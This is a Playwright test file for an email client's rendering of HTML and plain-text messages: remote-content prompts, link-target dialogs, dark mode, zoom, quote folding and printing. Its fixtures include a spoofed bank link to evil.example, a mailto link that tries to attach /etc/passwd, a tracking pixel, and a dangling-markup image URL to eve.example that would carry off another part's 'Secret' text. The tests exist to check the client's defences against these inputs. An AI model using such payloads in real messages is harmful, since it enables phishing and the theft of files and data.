// A message in HTML as a person handles it: what it wants from elsewhere, where its links
// lead, its colours on a dark page, its size, what it quotes, and its print.
import type { Page } from '@playwright/test';
import {
  htmlLetter,
  startLetterServer,
  type LetterServer,
} from '../rigs/letter-server.ts';
import { expect, expectAccessible, test } from './fixtures.ts';
import { headersAreIn, openMailbox, openMessage, textOf } from './screen.ts';

const { t } = textOf('en');

const newsletter = htmlLetter(
  '<table width="900" style="background:#fff"><tr><td><h1 style="color:#702">New</h1>' +
    '<a href="https://shop.example/?utm_source=mail&a=1">Shop</a> ' +
    '<a href="https://evil.example/">www.bank.example</a> ' +
    '<a href="mailto:stop@shop.example?attach=/etc/passwd">Stop</a>' +
    '<img src="http://127.0.0.1:1/logo.png" width="180" height="40" alt="Logo">' +
    '<img src="http://shop.list-manage.com/track/open.php?u=1" width="1" height="1">' +
    '<form action="https://shop.example"><input name="q"></form></td></tr></table>' +
    '<style>@import "//fonts.example/1";</style><p style="position:fixed">Fixed</p>',
  { subject: 'Newsletter', from: 'Shop <news@shop.example>' },
);
const reply = htmlLetter(
  '<div>Yes, on <font color="#000080">Thursday</font>.</div><div class="gmail_quote">' +
    Array.from({ length: 12 }, (_, n) => `<div>Line ${n + 1}</div>`).join('') +
    '</div>',
  { subject: 'Reply' },
);
const plain = [
  'From: Ada <ada@example.org>',
  'Subject: Plain',
  '',
  'See http://192.0.2.7/login and mailto:ada@example.org',
  '',
  ...Array.from({ length: 24 }, (_, n) => `> Line ${n + 1}`),
  '',
].join('\r\n');
const parts = [
  'From: Ada <ada@example.org>',
  'Subject: Two parts',
  'Content-Type: multipart/mixed; boundary=b',
  '',
  ...['<p>One</p><img src="http://eve.example/?', '<p>Secret</p>', '">'].flatMap(
    (html) => ['--b', 'Content-Type: text/html', '', html],
  ),
  '--b--',
  '',
].join('\r\n');

const long = htmlLetter(
  Array.from({ length: 200 }, (_, n) => `<p>Paragraph ${n + 1} ends here.</p>`).join('') +
    '<a href="https://shop.example/">Shop</a>',
  { subject: 'Long' },
);

let server: LetterServer;
test.beforeAll(async () => {
  server = await startLetterServer([newsletter, reply, plain, parts, long]);
});
test.afterAll(() => server.stop());

async function enter(page: Page): Promise<void> {
  const { host, port } = server;
  await openMailbox(page, { host, port, security: 'plain', user: 'ada', password: 'x' });
  await headersAreIn(page, textOf('en'));
}

const body = (page: Page) => page.frameLocator('[data-testid="body-frame"]');
const frame = (page: Page) => page.getByTestId('body-frame');

test('asks before it fetches, and tells where links lead', async ({ page, product }) => {
  await enter(page);
  await openMessage(page, 'Newsletter');
  const banner = page.getByTestId('remote-banner');
  await expect(banner).toContainText(t('msg.remote', { n: 2, hosts: 2 }));
  await expect(banner).toContainText('Mailchimp');
  await expect(page.getByTestId('form-note')).toBeVisible();
  await expect(page.getByTestId('look-note')).toContainText(t('look.fixed'));
  await expectAccessible(page);

  await body(page).getByRole('link', { name: 'Shop' }).hover();
  await expect(page.getByTestId('link-target')).toContainText(
    'https://shop.example/?utm',
  );
  const dialog = page.getByTestId('link-dialog');
  await body(page).getByRole('link', { name: 'Shop' }).click({ button: 'right' });
  await expect(dialog.getByTestId('open-clean')).toBeVisible();
  await page.keyboard.press('Escape');
  await body(page).getByRole('link', { name: 'www.bank.example' }).click();
  await expect(dialog).toContainText('evil.example');
  await expectAccessible(page);
  await page.keyboard.press('Escape');
  await body(page).getByRole('link', { name: 'Stop' }).click();
  await expect(dialog).toContainText('stop@shop.example');
  await expect(dialog).not.toContainText('passwd');
  await page.keyboard.press('Escape');
  await expect(dialog).toHaveCount(0);

  // What a sender may load is also chosen where their address stands.
  const sender = page.getByTestId('from').getByRole('button');
  const choose = async (words: string) => {
    await sender.click();
    await page.getByRole('menuitem', { name: words }).click();
  };
  await choose(t('addr.allow'));
  await choose(t('addr.disallow'));

  await page.getByTestId('subject').click();
  await page.keyboard.press('Shift+C');
  await expect(banner).toContainText(t('msg.remoteLoaded', { n: 2, hosts: 2 }));
  await expect(banner).toContainText(t('msg.remoteFailed', { n: 2 }));
  expect(product.printed()).not.toContain('list-manage');
});

test('is drawn as wide, as large and as dark as wanted, and printed as it was sent', async ({
  page,
}) => {
  await page.emulateMedia({ colorScheme: 'dark' });
  await enter(page);
  await openMessage(page, 'Reply');
  await expect(frame(page)).toHaveAttribute('data-dressing', 'recoloured');
  await page.getByTestId('subject').click();
  await page.keyboard.press('Shift+D');
  await expect(frame(page)).not.toHaveAttribute('data-dressing');
  await page.keyboard.press('Shift+D');
  await expect(frame(page)).toHaveAttribute('data-dressing', 'recoloured');

  const height = async () => Number(await frame(page).getAttribute('height'));
  const folded = await height();
  const summary = body(page).getByText(t('msg.quoted', { n: 12 }));
  await expect(body(page).getByText('Line 12')).toBeHidden();
  await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
  expect(await height()).toBeGreaterThan(folded + 100);
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
  await expect.poll(height).toBe(folded);
  await summary.click();
  await expect(body(page).getByText('Line 12')).toBeVisible();
  await expect.poll(height).toBeGreaterThan(folded + 100);

  const bar = page.getByTestId('frame-bar');
  const open = await height();
  await bar.getByRole('button', { name: t('view.larger') }).click();
  await expect(bar).toContainText(t('view.zoom', { n: '110' }));
  await expect.poll(height).toBeGreaterThan(open);
  await bar.getByRole('button', { name: t('view.reset') }).click();
  await bar.getByRole('button', { name: t('view.width') }).click();
  await page.getByRole('menuitemradio', { name: t('view.width.narrow') }).click();
  await expect
    .poll(async () => (await frame(page).boundingBox())?.width)
    .toBeLessThan(377);

  // A document that is printed goes when it is done; held back, it can be looked at.
  await page.evaluate(() => {
    HTMLIFrameElement.prototype.remove = () => {};
  });
  await bar.getByRole('button', { name: t('view.print') }).click();
  const paper = page.getByTestId('print-frame').contentFrame();
  await expect(paper.locator('details[open]')).toContainText('Line 12');

  await page.emulateMedia({ media: 'print' });
  await expect(page.getByTestId('subject')).toBeVisible();
  await expect(frame(page)).toBeVisible();
  await expect(page.getByTestId('msg-list')).toBeHidden();
  await expect(bar).toBeHidden();
  await page.emulateMedia({ media: null });

  // By the browser's own menu: all of it, under its head, and no line is cut in two, for
  // then both sheets would have it.
  await openMessage(page, 'Long');
  await expect.poll(height).toBeGreaterThan(5_000);
  const onScreen = await height();
  const sheets = await sheetsOf(await page.pdf({ preferCSSPageSize: true }));
  expect(sheets[0]).toContain('Long');
  const found = sheets.join(' ').match(/(?<=Paragraph )\d+/g) ?? [];
  expect(found.map(Number)).toEqual(Array.from({ length: 200 }, (_, n) => n + 1));
  expect(sheets.length).toBe(8);
  await expect.poll(height).toBe(onScreen);
});

async function sheetsOf(pdf: Uint8Array): Promise<string[]> {
  const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs');
  const task = getDocument({ data: Uint8Array.from(pdf) });
  const document = await task.promise;
  const sheets: string[] = [];
  for (let n = 1; n <= document.numPages; n++) {
    const { items } = await (await document.getPage(n)).getTextContent();
    sheets.push(items.map((one) => ('str' in one ? one.str : '')).join(' '));
  }
  await task.destroy();
  return sheets;
}

test('a text folds what it quotes and asks about its links, parts in HTML stay apart', async ({
  page,
}) => {
  await enter(page);
  await openMessage(page, 'Plain');
  const quote = page.getByTestId('quote');
  await expect(quote.getByText('Line 12')).toBeHidden();
  await quote.getByText(t('txt.quoted', { n: 24 })).click();
  await expect(quote.getByText('Line 12')).toBeVisible();
  const dialog = page.getByTestId('link-dialog');
  await page.getByRole('link', { name: 'http://192.0.2.7/login' }).click();
  await expect(dialog).toContainText('192.0.2.7');
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'mailto:ada@example.org' }).click();
  await expect(dialog).toContainText(t('link.title.write'));
  await page.keyboard.press('Escape');
  await page.getByTestId('subject').click();
  const otherwise = page.getByRole('button', {
    name: t('txt.readAs', { charset: 'utf-8' }),
  });
  await expect(otherwise).toBeVisible();
  await page.keyboard.press('w');
  await expect(page.getByTestId('charset')).toBeVisible();
  await expect(otherwise).toHaveCount(0);
  await page.emulateMedia({ media: 'print' });
  await expect(quote.getByText('Line 12')).toBeVisible();
  await expect(page.getByText(t('msg.mono'))).toBeHidden();
  await page.emulateMedia({ media: 'screen' });

  await openMessage(page, 'Two parts');
  await expect(frame(page)).toHaveCount(3);
  await expect(frame(page).nth(1).contentFrame().getByText('Secret')).toBeVisible();
  await page.evaluate(() => {
    HTMLIFrameElement.prototype.remove = () => {};
  });
  await page.keyboard.press('Control+p');
  const paper = page.getByTestId('print-frame').contentFrame();
  await expect(paper.locator('body > div')).toHaveCount(3);
  // The address that was left open has swallowed nothing, so nothing is asked for.
  await expect(page.getByTestId('remote-banner')).toHaveCount(0);

  // Where cleaning fails the words are shown, and that they are no more than that is said.
  await page.evaluate(() => {
    DOMImplementation.prototype.createHTMLDocument = () => {
      throw new Error('no document');
    };
  });
  await openMessage(page, 'Reply');
  await expect(page.getByTestId('not-cleaned')).toHaveText(t('msg.notCleaned'));
  await expect(page.getByTestId('text-body')).toContainText('Yes, on Thursday.');
  await expect(frame(page)).toHaveCount(0);
});
